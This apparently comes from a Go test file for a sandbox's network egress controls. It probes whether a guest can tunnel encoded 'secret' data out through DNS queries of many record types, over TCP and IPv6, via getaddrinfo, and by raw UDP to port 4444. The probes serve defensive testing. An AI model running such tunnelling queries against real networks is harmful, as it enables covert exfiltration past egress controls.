package egress_test

import (
	"strings"
	"testing"
)

// TestTunnels attacks with questions to name servers. A guest that can look up any
// name can send any text to the servers of that name's zone.
func TestTunnels(t *testing.T) {
	d := newAccount(t, "python3")
	const ok, long = "RCodeSuccess 1", "c2VjcmV0LXNlY3JldC1zZWNyZXQtc2VjcmV0LXNlY3JldC1zZWNyZXQ.c2VjcmV0LXNlY3JldC1zZWNyZXQ"
	list := map[string]attack{}
	for _, at := range []string{resolverV4, openDNS} { // an address of the guest's own is no answer of the zone's
		list["A to "+at] = attack{line: "$PROBE dns udp " + at + ":53 A " + long + ".tunnel.test.", want: "{93, 184, 215, 99}"}
	}
	for _, kind := range []string{"TXT", "NULL", "ANY", "MX", "CNAME", "SRV"} {
		list[kind+" to the resolver"] = attack{line: "$PROBE dns udp " + resolverV4 + ":53 " + kind + " " + long + ".tunnel.test.", want: ok}
		list[kind+" to another"] = attack{line: "$PROBE dns udp " + openDNS + ":53 " + kind + " " + long + ".tunnel.test.", want: ok}
	}
	list["over TCP"] = attack{line: "$PROBE dns tcp " + resolverV4 + ":53 TXT " + long + ".tunnel.test.", want: ok}
	list["over TCP to another"] = attack{line: "$PROBE dns tcp " + openDNS + ":53 TXT " + long + ".tunnel.test.", want: ok}
	list["over IPv6"] = attack{line: "$PROBE dns udp [" + openDNSv6 + "]:53 TXT " + long + ".tunnel.test.", want: ok}
	list["getaddrinfo"] = attack{line: "python3 -c 'import socket;print(socket.getaddrinfo(\"" + long + ".tunnel.test\",80))'", want: "93.184.215.99"}
	list["other port"] = attack{line: "$PROBE udp " + openDNS + ":443 abc; $PROBE udp 93.184.215.15:4444 abc", want: "abc"}
	attacks(t, d, list)
}

// TestResolver wants honest answers about what is allowed, addresses that are
// the guest's alone, and no question outside until somebody connects.
func TestResolver(t *testing.T) {
	d := newAccount(t, "python3")
	m := d.now(t)
	r := d.inside(t, allow("allowed.test", "*.wild.test"), strings.Join([]string{
		"$PROBE dns udp " + resolverV4 + ":53 A allowed.test.", "$PROBE dns udp 127.0.0.53:53 A ALLOWED.test.", "$PROBE dns tcp " + openDNS + ":53 AAAA allowed.test.",
		"$PROBE dns udp " + resolverV4 + ":53 A any.thing.wild.test.",
		"echo @@", "$PROBE dns udp " + resolverV4 + ":53 TXT allowed.test.", "$PROBE dns udp " + resolverV4 + ":53 ANY c2VjcmV0.wild.test.",
		"$PROBE dns udp " + resolverV4 + ":53 A '" + `wild\000.test` + ".'",
	}, "; "))
	open, closed, _ := strings.Cut(r.out, "@@")
	if n := strings.Count(open, "RCodeSuccess 1"); n != 4 || strings.Count(open, "A: [4]byte{198, 1") != 3 {
		t.Errorf("%d answers: %s%s", n, open, r.err)
	}
	if strings.Contains(closed, "RCodeSuccess 1") {
		t.Errorf("the resolver gives more than addresses: %s", closed)
	}
	if q := d.questions(t, m); len(q) > 0 {
		t.Errorf("outside was asked %q before anybody connected", q)
	}
}
